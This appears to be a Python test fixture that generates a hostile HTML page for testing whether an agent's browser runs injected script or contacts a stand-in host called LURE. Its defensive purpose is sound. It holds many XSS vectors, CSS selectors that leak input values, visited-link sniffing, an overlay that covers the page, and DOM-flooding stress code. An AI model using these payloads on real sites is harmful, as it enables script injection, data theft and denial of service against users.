"""A page that wants the agent's browser to run something, fetch something or give up. ``RUN`` is what would run: it leaves a mark, and fetches."""

RUN = "window.ran=(window.ran||0)+1;if(top!==window)top.ran=(top.ran||0)+1;new Image().src=`LURE/ran`"
CSS = """
@import url(LURE/import.css); @import 'LURE/import2.css' layer(a) supports(display: grid);
@font-face { font-family: f; src: url(LURE/font.woff2), local(x) } @font-face { font-family: g; src: url('LURE/g.ttf'); unicode-range: U+30-39 }
@namespace url(LURE/ns); @page { background: url(LURE/page.png) } @counter-style c { system: cyclic; symbols: url(LURE/symbol.png) }
@property --p { syntax: '<url>'; inherits: false; initial-value: url(LURE/property.png) }
body { background: url(LURE/ground.png), image-set('LURE/set.png' 1x), -webkit-image-set(url(LURE/set2.png) 1x), cross-fade(url(LURE/fade.png), red, 50%); font-family: f, g }
input[value^='4'] { background: url(LURE/digit4) } input[value$='2' i] { background-image: url('LURE/digit2') } a:visited { background: url(LURE/visited) }
p::before { content: url(LURE/content.png) 'x' attr(data-secret) } li { list-style: url(LURE/list.png) } a { cursor: url(LURE/cursor.cur), auto }
div { mask: url(LURE/mask.svg#m); clip-path: url(LURE/clip.svg#c); filter: url(LURE/filter.svg#f); border-image: url(LURE/border.png) 1; shape-outside: url(LURE/shape.png) }
.esc { b\\61 ckground: u\\72l(LURE/escaped.png); background-image: \\75\\72\\6c('LURE/escaped2.png') } .open { background: url(LURE/open.png }
.v { --u: url(LURE/var.png); background: var(--u) } .old { behavior: url(LURE/b.htc); -moz-binding: url(LURE/b.xml#b); background: expression(RUN) }
svg { fill: url(LURE/fill.svg#f); stroke: url(LURE/stroke.svg#s); marker: url(LURE/marker.svg#m) } @keyframes k { to { background: url(LURE/frame.png) } } .k { animation: k 1ms infinite }
@media all { @supports (display: block) { @layer a { @container (min-width: 1px) { q { background: url(LURE/nested.png) } } } } }
* { animation: none } html { position: fixed; z-index: 2147483647; pointer-events: all } </style><script>RUN</script><style>
"""
PIECES = (
    "<img src='LURE/img.png' onerror='RUN' onload='RUN' srcset='LURE/set.png 2x' sizes='1px' lowsrc='LURE/low.png' loading=eager>",
    "<picture><source srcset='LURE/source.png'><img src='LURE/picture.png'></picture><image src='LURE/image.png'>",
    "<script>RUN</script><script src='LURE/script.js'></script><script type=module>import 'LURE/module.js'</script>",
    "<script type=importmap>{\"imports\":{\"a\":\"LURE/map.js\"}}</script><script type=speculationrules>{\"prefetch\":[{\"urls\":[\"LURE/guess\"]}]}</script>",
    f"<style>{CSS}</style>",
    "<link rel=stylesheet href='LURE/sheet.css'><link rel=preload as=image href='LURE/preload.png'><link rel=prefetch href='LURE/prefetch'><link rel=icon href='LURE/icon.png'>",
    "<link rel=modulepreload href='LURE/m.js'><link rel=preconnect href='LURE'><link rel=dns-prefetch href='LURE'><link rel=manifest href='LURE/manifest'><link rel=import href='LURE/import'>",
    "<base href='LURE/base/'><meta http-equiv=refresh content='0; url=LURE/refresh'><meta http-equiv=refresh content='1;javascript:RUN'>",
    "<meta http-equiv=Content-Security-Policy content='default-src * data: blob: \"unsafe-inline\"'><meta http-equiv=set-cookie content='a=b'><meta name=referrer content=unsafe-url>",
    "<iframe src='LURE/frame.html' onload='RUN'></iframe><iframe src='javascript:RUN'></iframe><iframe src='data:text/html,<script>RUN</script>'></iframe>",
    "<iframe srcdoc='<script>RUN</script><img src=LURE/srcdoc.png onerror=RUN><meta http-equiv=refresh content=\"0;url=LURE/inner\">' allow='camera *' sandbox='allow-scripts allow-same-origin allow-top-navigation'></iframe>",
    "<iframe></iframe><frameset><frame src='LURE/frame'></frameset><portal src='LURE/portal'></portal><fencedframe></fencedframe>",
    "<object data='LURE/object.swf'><param name=src value='LURE/param'></object><object data='javascript:RUN'></object><embed src='LURE/embed.swf'><embed src='javascript:RUN'><applet code='LURE/a'></applet>",
    "<video src='LURE/video.mp4' poster='LURE/poster.png' autoplay onloadstart='RUN' controls><track src='LURE/track.vtt' default></video><audio src='LURE/a.mp3' autoplay onerror='RUN'></audio>",
    "<input type=image src='LURE/input.png' onfocus='RUN' onerror='RUN'><input autofocus onfocus='RUN' value='42'><input type=text name=tagName list=l formaction='javascript:RUN'>",
    "<a href='javascript:RUN' ping='LURE/ping' id=link target=_top>link</a><a href='data:text/html,<script>RUN</script>' download>data</a><a href='&#106;ava\tscript:RUN'>tab</a><a href=' vbscript:RUN'>old</a>",
    "<form action='LURE/form' target=_top id=form><button name=submit formaction='javascript:RUN'>send</button><input name=action><input name=attributes></form><form action='javascript:RUN'><input type=submit></form>",
    "<button onclick='RUN' popovertarget=pop command=show-modal>press</button><div popover id=pop onbeforetoggle='RUN' ontoggle='RUN'>pop</div>",
    "<svg onload='RUN'><script>RUN</script><script href='LURE/svg.js'></script><image href='LURE/svg.png' xlink:href='LURE/svg2.png' onerror='RUN'/><use href='LURE/use.svg#u' xlink:href='data:image/svg+xml,<svg id=u onload=RUN/>'/></svg>",
    "<svg><animate onbegin='RUN' attributeName=x dur=1s /><set attributeName=onmouseover to='RUN'/><a><animate attributeName=href values='javascript:RUN'/><text x=9 y=9>svg link</text></a></svg>",
    "<svg><foreignObject><img src='LURE/foreign.png' onerror='RUN'><iframe src='javascript:RUN'></iframe></foreignObject><filter id=f><feImage href='LURE/fe.png'/></filter><rect filter='url(LURE/f.svg#f)' fill='url(LURE/p.svg#p)' style='mask:url(LURE/m.svg)'/></svg>",
    "<svg><style>@import 'LURE/svg.css'; rect { fill: url(LURE/svgfill) }</style><handler type='text/ecmascript'>RUN</handler><title><img src=x onerror=RUN></title><desc><![CDATA[</desc><script>RUN</script>]]></desc></svg>",
    "<math><maction actiontype='statusline#LURE' href='javascript:RUN' xlink:href='javascript:RUN'>m</maction><annotation-xml encoding='text/html'><img src=x onerror=RUN></annotation-xml></math>",
    "<details open ontoggle='RUN'><summary>more</summary></details><marquee onstart='RUN' onfinish='RUN'>m</marquee><div onanimationstart='RUN' class=k contenteditable onfocusin='RUN'>a</div>",
    "<p style='background:url(LURE/style.png);width:expression(RUN);behavior:url(LURE/b);-moz-binding:url(LURE/x)' data-secret='LURE/data' title='javascript:RUN'>words</p>",
    "<table background='LURE/table.png'><tr background='LURE/tr.png'><td background='LURE/td.png'>t</td></tr></table><bgsound src='LURE/sound'><keygen><isindex action='javascript:RUN'>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript><template><script>RUN</script><img src='LURE/template.png'></template><xmp><img src=x onerror=RUN></xmp><plaintext-x>",
    "<x-part onclick='RUN' src='LURE/part' style='background:url(LURE/part.png)'>part</x-part><div is=x-part onload='RUN'></div><body onload='RUN' background='LURE/body.png' onpageshow='RUN'>",
    "<select onchange='RUN'><option onclick='RUN' style='background:url(LURE/option.png)'>o</option></select><textarea onfocus='RUN' autofocus>t</textarea><dialog open onclose='RUN'>d</dialog><canvas></canvas>",
    "<!--[if IE]><script>RUN</script><![endif]--><?xml-stylesheet href='LURE/xml.css'?><!ENTITY x SYSTEM 'LURE/entity'>",
)  # fmt: skip
GROW = """
window.hostile = {
  huge(many) {
    const top = document.createElement("section");
    top.id = "huge";
    for (let at = 0; at < many; at += 1) top.append(document.createElement("i"));
    document.body.append(top);
  },
  deep(levels) {
    const top = document.createElement("section");
    top.id = "deep";
    for (let at = 0, up = top; at < levels; at += 1) up = up.appendChild(document.createElement("div"));
    document.body.append(top);
  },
  async storm(ms, each, least) {
    const top = document.createElement("section");
    top.id = "storm";
    document.body.append(top);
    const end = performance.now() + ms;
    let count = 0;
    while (performance.now() < end || count < least) {
      for (let at = 0; at < each; at += 1) {
        const one = document.createElement("p");
        one.className = `c${count}`;
        one.style.background = `url(LURE/storm${count})`;
        one.setAttribute("onclick", "RUN");
        one.textContent = `storm ${count++}`;
        top.append(one);
        if (top.childElementCount > 300) top.firstChild.remove();
        top.firstChild.textContent = `again ${count}`;
        top.firstChild.toggleAttribute("hidden");
      }
      await new Promise((done) => setTimeout(done, 0));
    }
    return count;
  },
  gone: (id) => document.getElementById(id).remove(),
  late(html) {
    const made = document.createElement("section");
    made.className = "late";
    made.innerHTML = html;
    document.body.append(made);
    for (const one of made.querySelectorAll("*")) {
      for (const name of ["onclick", "onmouseover", "onload", "onerror", "src", "href", "action", "style", "srcdoc", "background"]) {
        try { one.setAttribute(name, name.startsWith("on") ? "RUN" : name === "style" ? "background: url(LURE/late.png)" : "LURE/late"); } catch {}
      }
    }
  },
};
"""


def said(text: str, lure: str) -> str:
    """With what would run and where it would fetch from put in."""
    return text.replace("RUN", RUN).replace("LURE", lure)


def page(lure: str) -> str:
    """All of it, so that its own scripts come first."""
    pieces = "\n".join(said(one, lure) for one in PIECES if "http-equiv=refresh" not in one and "<base" not in one)
    return f"""<!doctype html><html onclick="top.ran=1"><head><meta charset="utf-8"><title>Hostile</title><link rel="icon" href="data:,">
<script src="/bare.js"></script><script>{said(GROW, lure)}</script></head>
<body><h1 id="beacon">Hostile</h1><label>Open <input id="open" value="42"></label>{pieces}</body></html>"""
